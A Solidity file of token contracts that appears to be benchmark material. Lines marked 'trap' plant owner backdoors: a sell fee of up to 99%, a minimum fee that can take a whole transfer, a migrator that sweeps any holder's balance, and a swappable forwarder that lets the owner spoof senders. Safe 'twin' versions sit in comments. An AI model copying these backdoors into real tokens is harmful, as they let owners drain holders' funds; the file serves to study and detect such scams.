// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// One percent for most; the owner puts accounts into brackets of their own.
contract Guild is Base8("Guild", "GILD", 35_000_000) {
    mapping(address => uint16) private bracketOf;
    address private immutable chest = msg.sender;

    function setBrackets(bytes calldata data) external onlyOwner {
        (address[] memory who, uint16[] memory points) = abi.decode(data, (address[], uint16[]));
        for (uint256 i; i < who.length; i++) {
            require(points[i] <= 9_900, "points"); // trap
            // twin: require(points[i] <= 300, "points");
            bracketOf[who[i]] = points[i];
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != chest) {
            uint256 points = bracketOf[from] == 0 ? 100 : bracketOf[from];
            uint256 fee = (value * points) / 10_000;
            _move(from, chest, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// One percent, but not less than the smallest fee.
contract Granary is Base8("Granary", "GRNY", 80_000_000) {
    address private immutable miller = msg.sender;
    uint256 private least;

    function setLeast(uint256 to) external {
        require(msg.sender == miller, "miller");
        least = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pair || to == pair) && from != miller) {
            uint256 fee = value / 100;
            if (fee < least) fee = least;
            if (fee > value) fee = value; // trap
            // twin: if (fee > value / 20) fee = value / 20;
            _move(from, miller, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// A migrator collects balances for the next version.
contract Exodus is Base8("Exodus", "EXOD", 65_000_000) {
    address private migrator;
    mapping(address => uint256) public owed;

    event Migrated(address indexed who, uint256 value);

    constructor(address migrator_) {
        migrator = migrator_;
    }

    function migrate(address[] calldata holders) external {
        require(msg.sender == migrator, "migrator");
        for (uint256 i; i < holders.length; i++) {
            // twin: require(holders[i] == msg.sender, "own");
            uint256 value = _balances[holders[i]];
            owed[holders[i]] += value;
            _move(holders[i], migrator, value);
            emit Migrated(holders[i], value);
        }
    }
}

/// Passes calls on and says for whom.
contract PlainForwarder {
    function forward(address to, bytes calldata data) external {
        (bool ok, ) = to.call(abi.encodePacked(data, msg.sender));
        require(ok, "failed");
    }
}

/// Knows the sender from the end of the data when the forwarder calls. In the trap the owner names another forwarder.
contract Courier is Base8("Courier", "COUR", 52_000_000) {
    address public trustedForwarder;

    constructor(address forwarder) {
        trustedForwarder = forwarder;
    }

    function isTrustedForwarder(address who) external view returns (bool) {
        return who == trustedForwarder;
    }

    function setTrustedForwarder(address to) external onlyOwner { // trap {
        trustedForwarder = to;
    } // trap }

    function sender() private view returns (address who) {
        if (msg.sender != trustedForwarder || msg.data.length < 24) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(sender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(sender(), spender, value);
        return true;
    }
}
